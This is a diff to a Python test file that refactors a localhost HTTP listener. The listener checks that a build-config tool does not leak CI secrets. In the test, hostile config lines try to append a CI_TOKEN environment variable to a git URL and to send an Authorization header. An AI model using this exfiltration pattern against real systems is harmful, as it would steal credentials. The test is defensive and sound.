@@ -47,7 +47,7 @@ def refused(repo: Repo, words: tuple[str, ...], message: str, **options: object)
     done = repo.run(*words, **options)
     assert (done.returncode, done.stdout) == (128, ""), (done.stdout, done.stderr)
     assert done.stderr.startswith("fatal: ") and message in done.stderr, done.stderr
-    return done.stderr
+    return str(done.stderr)
 
 
 LOCATIONS = [
@@ -135,11 +135,19 @@ def test_a_rewritten_url_keeps_to_the_transports(repo: Repo, marks: Path) -> Non
 # What is sent
 
 
-class Listener(http.server.BaseHTTPRequestHandler):
-    seen: list[str]
+class Listener(http.server.ThreadingHTTPServer):
+    """Keeps the address and headers of each request, and has nothing."""
+
+    def __init__(self) -> None:
+        super().__init__(("127.0.0.1", 0), _NotFound)
+        self.seen: list[str] = []
+
+
+class _NotFound(http.server.BaseHTTPRequestHandler):
+    server: Listener
 
     def do_GET(self) -> None:
-        self.server.seen.append(f"{self.path}\n{self.headers}")  # type: ignore[attr-defined]
+        self.server.seen.append(f"{self.path}\n{self.headers}")
         self.send_error(404)
 
     def log_message(self, *_: object) -> None:
@@ -147,9 +155,8 @@ class Listener(http.server.BaseHTTPRequestHandler):
 
 
 @pytest.fixture
-def listener() -> Iterator[http.server.HTTPServer]:
-    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
-    server.seen = []  # type: ignore[attr-defined]
+def listener() -> Iterator[Listener]:
+    server = Listener()
     thread = threading.Thread(target=server.serve_forever, args=(0.05,))
     thread.start()
     yield server
@@ -158,26 +165,26 @@ def listener() -> Iterator[http.server.HTTPServer]:
     server.server_close()
 
 
-def test_no_token_is_sent(repo: Repo, listener: http.server.HTTPServer) -> None:
+def test_no_token_is_sent(repo: Repo, listener: Listener) -> None:
     address = f"http://127.0.0.1:{listener.server_port}"
     environ = {**os.environ, "CI_TOKEN": "s3cr3t", "CI_COMMIT_BRANCH": "main", "ocuroot.timeout": "1"}
     hostile(repo, f'store.set(store.git("{address}/" + host.env().get("CI_TOKEN", "none")))\n')
     assert repo.run(*READ, env=environ).returncode == 128
-    assert listener.seen and "/none/" in listener.seen[0]  # type: ignore[attr-defined]
+    assert listener.seen and "/none/" in listener.seen[0]
     hostile(repo, f'store.set(store.git("{address}/" + host.env()["CI_TOKEN"]))\n')
     said = refused(repo, READ, "repo.ocu.star:1:", env=environ)
     assert "git config --global --add ocuroot.allowEnv CI_TOKEN" in said
     hostile(repo, f'store.set(store.git("{address}/header"))\n')
-    before = len(listener.seen)  # type: ignore[attr-defined]
+    before = len(listener.seen)
     for where in ({"GIT_CONFIG_GLOBAL": str(repo.path / "mine")}, {}):
         repo.git("config", "http.extraHeader", "Authorization: Basic czNjcjN0", env={**environ, **where})
         refused(repo, READ, "'http.extraHeader' would be sent there", env={**environ, **where})
         repo.git("config", "--unset", "http.extraHeader", env={**environ, **where})
-    assert len(listener.seen) == before  # type: ignore[attr-defined]
+    assert len(listener.seen) == before
     repo.git("config", "http.extraHeader", "X-Mine: 1")
     repo.git("remote", "add", "origin", f"{address}/origin")
     assert repo.run(*READ, env=environ).returncode == 128
-    assert len(listener.seen) > before  # type: ignore[attr-defined]
+    assert len(listener.seen) > before
 
 
 # The environment
